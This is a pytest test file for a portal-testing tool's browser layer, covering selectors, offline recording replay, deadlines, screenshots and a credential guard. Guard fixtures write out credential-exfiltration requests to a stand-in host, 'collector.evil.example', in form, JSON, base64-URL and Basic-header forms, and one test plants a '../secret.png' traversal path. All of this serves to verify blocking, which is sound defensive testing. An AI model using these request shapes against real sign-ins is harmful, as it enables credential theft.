"""The browser's pure parts: simple selectors without a browser, the recording of what the
browser saw and its offline replay, the deadline, finding a browser and saying how to install
one, the screenshots' report extras and archive files, origins, and the sign-in's guard on where
the credentials go."""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import cast
from urllib.parse import quote_plus

import pytest
import yaml
from cryptography.hazmat.primitives.asymmetric import ec

from conversion_qa.clients import browser
from conversion_qa.clients.browser import FrameView, PageView
from conversion_qa.clients.browser_guard import CredentialGuard
from conversion_qa.clients.browser_proxy import Origin, origin_of
from conversion_qa.config.secrets import remember_secret
from conversion_qa.errors import BadRecording, NotRecorded
from conversion_qa.plugin import screenshots
from conversion_qa.plugin.run import Network, browser_deadline
from conversion_qa.recordings import Recordings
from conversion_qa.rules import selectors

PNG = b"\x89PNG\r\n\x1a\nnot-really-a-picture"
HOME = "https://demo-test.portal.example.com/Home"
BILLING = "https://demo-test.portal.example.com/Billing"
BILL_VIEW = "https://demo-test.portal.example.com/Capricorn/BillView"
SELECTOR = '[data-demo="budget-banner"]'


# simple selectors -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("selector", "html", "found"),
    [
        (SELECTOR, '<div data-demo="budget-banner">x</div>', True),
        (SELECTOR, '<div data-demo="other">x</div>', False),
        (SELECTOR, '<!-- <div data-demo="budget-banner">x</div> -->', False),
        ("#notice", "<p id='notice'>Gas leak?</p>", True),
        ("p.banner.wide", "<p class='wide banner'>x</p>", True),
        ("p.banner.wide", "<div class='wide banner'>x</div>", False),
        ("[hidden]", "<div hidden>x</div>", True),
        ('[class~="a"]', "<i class='b a'></i>", True),
    ],
)
def test_a_simple_selector_matches_elements_of_raw_html_never_comments(
    selector: str, html: str, found: bool
) -> None:
    compound = selectors.parse(selector)
    assert compound is not None
    assert selectors.in_html(html, compound) is found


@pytest.mark.parametrize(
    "selector", ["main > .banner", ".a .b", "div:not(.x)", "a, b", "", "[unclosed"]
)
def test_selectors_a_browser_is_needed_for_are_not_parsed(selector: str) -> None:
    assert selectors.parse(selector) is None


@pytest.mark.parametrize(
    "selector", [SELECTOR, "#semco-gas-leak-notice", "section.notice[role='note']", "input#q"]
)
def test_the_element_made_for_a_selector_matches_it(selector: str) -> None:
    compound = selectors.parse(selector)
    assert compound is not None
    assert selectors.in_html(compound.element("<b>shown</b>"), compound)
    assert "<b>" not in compound.element("<b>shown</b>")  # text, escaped


# recordings of what the browser saw -------------------------------------------------------------


class FakeSession:
    """A signed-in browser session that shows fixed views."""

    browser_version = "Chromium 156"

    def __init__(self, text: str) -> None:
        self.text = text

    def view_page(self, url: str, wanted: tuple[str, ...] = ()) -> PageView:
        return PageView(url, 200, "Demo", self.text, {s: True for s in wanted}, True, PNG)

    def view_frame(self, page_url: str | None, frame_url: str) -> FrameView:
        return FrameView(
            page_url,
            frame_url,
            200,
            True,
            0.4321,
            PNG,
            frame_status=404,
            frame_landed=frame_url,
            refused=("https://cdn.example.net",),
            deadline=30.0,
        )


def record(folder: Path, text: str = "Welcome\nGo paperless") -> list[Path]:
    recordings = Recordings(folder, record=True)
    session = FakeSession(text)
    live = recordings.portal_views("demo", "test", lambda: session)  # type: ignore[arg-type,return-value]
    live.page("custom-code/budget-billing-banner", HOME, [SELECTOR], "custom-code banner: /Home")
    live.frame("iframe-lag/bill-view", BILLING, BILL_VIEW, "iframe-lag bill-view: /Billing")
    assert [s.png for s in live.screenshots] == [PNG, PNG]
    return recordings.write()


def test_what_the_browser_saw_is_recorded_and_judged_again_offline(tmp_path: Path) -> None:
    assert record(tmp_path) == [tmp_path / "demo" / "test.browser.yaml"]
    offline = Recordings(tmp_path, record=False).portal_views("demo", "test", None)
    seen = offline.page(
        "custom-code/budget-billing-banner", HOME, [SELECTOR], "custom-code banner: /Home"
    )
    assert seen.value.selectors == {SELECTOR: True}
    assert "Go paperless" in seen.value.text
    assert seen.source.startswith(f"recorded in {tmp_path / 'demo' / 'test.browser.yaml'} on ")
    assert seen.source.endswith(" by Chromium 156")
    timed = offline.frame("iframe-lag/bill-view", BILLING, BILL_VIEW, "iframe-lag bill-view")
    assert timed.value.seconds == pytest.approx(0.432)
    assert (timed.value.frame_status, timed.value.frame_landed) == (404, BILL_VIEW)
    assert (timed.value.refused, timed.value.deadline) == (("https://cdn.example.net",), 30.0)
    assert [s.png for s in offline.screenshots] == [PNG, PNG]
    assert offline.screenshots[0].name.startswith("custom-code banner: /Home (recorded 20")
    pictures = sorted(p.name for p in (tmp_path / "demo" / "screenshots").iterdir())
    assert pictures == [
        "test-custom-code-budget-billing-banner.png",
        "test-iframe-lag-bill-view.png",
    ]


def test_a_recording_holds_no_secret_in_its_text(tmp_path: Path) -> None:
    remember_secret("canary-user-5b2c07")
    record(tmp_path, text="Welcome back, canary-user-5b2c07\nGo paperless")
    written = (tmp_path / "demo" / "test.browser.yaml").read_text(encoding="utf-8")
    assert "canary-user-5b2c07" not in written
    assert yaml.safe_load(written)["version"] == 1


@pytest.mark.parametrize(
    ("url", "wanted", "subject"),
    [
        (HOME, ["#another-selector"], "#another-selector on"),
        ("https://demo-test.portal.example.com/Other", [SELECTOR], "/Other"),
    ],
    ids=["new-selector", "another-page"],
)
def test_a_view_the_recording_does_not_hold_is_not_recorded_naming_file_and_command(
    tmp_path: Path, url: str, wanted: list[str], subject: str
) -> None:
    record(tmp_path)
    offline = Recordings(tmp_path, record=False).portal_views("demo", "test", None)
    with pytest.raises(NotRecorded) as error:
        offline.page("custom-code/budget-billing-banner", url, wanted, "label")
    message = str(error.value)
    assert subject in error.value.subject
    assert str(tmp_path / "demo" / "test.browser.yaml") in message
    assert "pytest --biller=demo -m live --record-fixtures" in message


def test_no_recording_at_all_is_not_recorded(tmp_path: Path) -> None:
    offline = Recordings(tmp_path, record=False).portal_views("demo", "test", None)
    with pytest.raises(NotRecorded, match="no such recording"):
        offline.frame("iframe-lag/bill-view", BILLING, BILL_VIEW, "label")


# the browser: deadline, where it is, how to get one ---------------------------------------------


def test_the_browser_deadline_is_the_call_deadline() -> None:
    network = Network(
        connect_timeout=5,
        read_timeout=12.5,
        call_deadline=20,
        max_answer_bytes=2**20,
        allow_production_writes=False,
    )
    assert browser_deadline(network) == 20


def test_a_deadline_is_spent_step_by_step_and_never_means_no_limit() -> None:
    deadline = browser.Deadline(0.0)
    assert deadline.left() == 0.0
    assert deadline.ms() == 1.0  # Playwright reads 0 as "no timeout"
    assert browser.Deadline(10).ms(keep=2.5) <= 7500
    # waits keep a second (at most a quarter of a short deadline) for looking and the picture
    assert browser.Deadline(10).waiting() <= 9000
    assert browser.Deadline(2).waiting() <= 1500


def test_a_chosen_browser_that_is_not_there_is_not_found(tmp_path: Path) -> None:
    assert browser.find_browser(tmp_path / "no-chromium") is None
    present = tmp_path / "chromium"
    present.write_text("")
    assert browser.find_browser(present) == present


@pytest.mark.parametrize(
    ("system", "command"),
    [
        ("Linux", "sudo apt-get install chromium"),
        ("Darwin", "brew install --cask chromium"),
        ("Windows", "install Google Chrome or Microsoft Edge"),
    ],
)
def test_the_install_command_fits_the_machine(system: str, command: str) -> None:
    assert browser.install_command(system).startswith(command)


def test_a_missing_browser_says_how_to_install_one_or_to_go_without() -> None:
    error = browser.missing_browser(None)
    assert "no Chromium, Chrome or Edge is installed here" in str(error)
    assert browser.install_command() in str(error)
    assert "--no-browser" in str(error)
    assert "--browser-path" in str(error)


# screenshots in the report and the archive ------------------------------------------------------


def test_a_screenshot_is_an_embedded_png_extra_with_a_scrubbed_name() -> None:
    remember_secret("canary-secret-7f3a91")
    made = screenshots.extra("custom-code x: /Home?k=canary-secret-7f3a91", PNG)
    assert made["format_type"] == "image"
    assert made["mime_type"] == "image/png"
    assert base64.b64decode(made["content"]) == PNG
    assert "canary-secret-7f3a91" not in made["name"]


def test_a_recording_naming_a_picture_outside_its_screenshots_folder_is_refused(
    tmp_path: Path,
) -> None:
    record(tmp_path)
    recording = tmp_path / "demo" / "test.browser.yaml"
    (tmp_path / "secret.png").write_bytes(PNG + b"not a screenshot")
    text = recording.read_text(encoding="utf-8")
    recording.write_text(
        text.replace("screenshots/test-custom-code-budget-billing-banner.png", "../secret.png"),
        encoding="utf-8",
    )
    offline = Recordings(tmp_path, record=False).portal_views("demo", "test", None)
    with pytest.raises(BadRecording, match=r"the screenshot '\.\./secret\.png' is not a file of"):
        offline.page("custom-code/budget-billing-banner", HOME, [SELECTOR], "custom-code banner")
    assert offline.screenshots == []


# origins and the sign-in's guard ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "origin"),
    [
        ("https://Portal.Example.com/Home", Origin("https", "portal.example.com", 443)),
        ("https://portal.example.com:443/x", Origin("https", "portal.example.com", 443)),
        ("https://portal.example.com:8443", Origin("https", "portal.example.com", 8443)),
        ("http://portal.example.com/", Origin("http", "portal.example.com", 80)),
        ("https://[::1]:4443/", Origin("https", "::1", 4443)),
    ],
)
def test_an_origin_is_scheme_host_and_port_as_a_connection_has_them(
    url: str, origin: Origin
) -> None:
    assert origin_of(url) == origin


def test_an_origin_is_written_as_a_browser_writes_it() -> None:
    assert str(Origin("https", "portal.example.com", 443)) == "https://portal.example.com"
    assert str(Origin("https", "::1", 4443)) == "https://[::1]:4443"


PORTAL_ORIGIN = Origin("https", "demo-test.portal.example.com", 443)
USER, PASSWORD = "canary-user-5b2c07", "canary-pass word€"


@dataclass
class FakeRequest:
    url: str
    post_data_buffer: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class FakeRoute:
    """A request held by the browser: the guard lets it go on, or aborts it."""

    request: FakeRequest
    outcome: str = "held"

    def continue_(self) -> None:
        self.outcome = "continued"

    def abort(self, reason: str) -> None:
        self.outcome = f"aborted ({reason})"


def guarded(*requests: FakeRequest) -> tuple[CredentialGuard, list[str]]:
    guard = CredentialGuard(PORTAL_ORIGIN, {"the user name": USER, "the password": PASSWORD})
    routes = [FakeRoute(request) for request in requests]
    for route in routes:
        guard.route(route)  # type: ignore[arg-type]
    return guard, [route.outcome for route in routes]


def test_requests_to_the_portals_own_origin_go_on_with_the_credentials() -> None:
    form = f"username={quote_plus(USER)}&password={quote_plus(PASSWORD)}".encode()
    guard, outcomes = guarded(
        FakeRequest("https://demo-test.portal.example.com/Account/SignIn", form),
        FakeRequest("https://demo-test.portal.example.com:443/", None),
    )
    assert outcomes == ["continued", "continued"]
    assert guard.problem("https://demo-test.portal.example.com/Account/SignIn") is None


@pytest.mark.parametrize(
    ("request_", "what"),
    [
        (
            FakeRequest(
                "https://collector.evil.example/collect",
                f"username={quote_plus(USER)}&password={quote_plus(PASSWORD)}".encode(),
            ),
            "the user name and the password",
        ),
        (
            FakeRequest("https://collector.evil.example/c", json.dumps({"p": PASSWORD}).encode()),
            "the password",
        ),
        (
            FakeRequest(
                "https://collector.evil.example/c?k="
                + base64.urlsafe_b64encode(PASSWORD.encode()).decode().rstrip("=")
            ),
            "the password",
        ),
        (
            FakeRequest(
                "https://collector.evil.example/c",
                headers={
                    "authorization": "Basic "
                    + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
                },
            ),
            "the user name and the password",
        ),
        (  # the portal's host, but not its https origin
            FakeRequest(
                "http://demo-test.portal.example.com/Account/SignIn",
                PASSWORD.encode("utf-8"),
            ),
            "the password",
        ),
    ],
    ids=["form", "json", "base64-in-url", "basic-header", "plain-http"],
)
def test_a_credential_on_its_way_elsewhere_is_aborted_and_fails_the_sign_in(
    request_: FakeRequest, what: str
) -> None:
    guard, outcomes = guarded(request_)
    assert outcomes == ["aborted (blockedbyclient)"]
    error = guard.problem("https://demo-test.portal.example.com/Account/SignIn")
    assert error is not None
    where = origin_of(request_.url)
    assert error.what == f"the sign-in would have sent {what} to {where}: aborted, nothing was sent"
    assert USER not in str(error)
    assert PASSWORD not in str(error)


def test_a_request_elsewhere_without_a_credential_is_aborted_but_fails_nothing() -> None:
    guard, outcomes = guarded(FakeRequest("https://fonts.example.net/a.woff2"))
    assert outcomes == ["aborted (blockedbyclient)"]  # nothing leaves while the password is typed
    assert guard.problem("https://demo-test.portal.example.com/Account/SignIn") is None


class FakeChromium:
    """A running browser as `Browser` uses it: its key, and whether it was closed."""

    def __init__(self, executable: Path, launch_timeout: float = 0.0) -> None:
        self.executable = executable
        self.key = ec.generate_private_key(ec.SECP256R1())
        self.closed = False

    def close(self) -> None:
        self.closed = True


def browser_options(tmp_path: Path) -> browser.BrowserOptions:
    return browser.BrowserOptions(executable=tmp_path / "chromium", deadline=5, connect_timeout=1)


def test_a_lent_browser_is_left_running_and_the_runs_proxy_presents_its_key(
    tmp_path: Path,
) -> None:
    lent = FakeChromium(tmp_path / "chromium")
    asked: list[Path] = []

    def lend(executable: Path) -> FakeChromium:
        asked.append(executable)
        return lent

    run = browser.Browser(browser_options(tmp_path), lend=lend)  # type: ignore[arg-type]
    running, proxy = run._started()
    try:
        assert running is cast(object, lent)
        assert asked == [tmp_path / "chromium"]
        assert proxy._key is lent.key  # what the browser was told to accept
    finally:
        run.close()
    assert not lent.closed


def test_a_browser_the_run_started_itself_is_closed_with_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser, "RunningChromium", FakeChromium)
    run = browser.Browser(browser_options(tmp_path))  # nothing lent: it starts one
    running, _ = run._started()
    run.close()
    assert running.closed  # type: ignore[attr-defined]
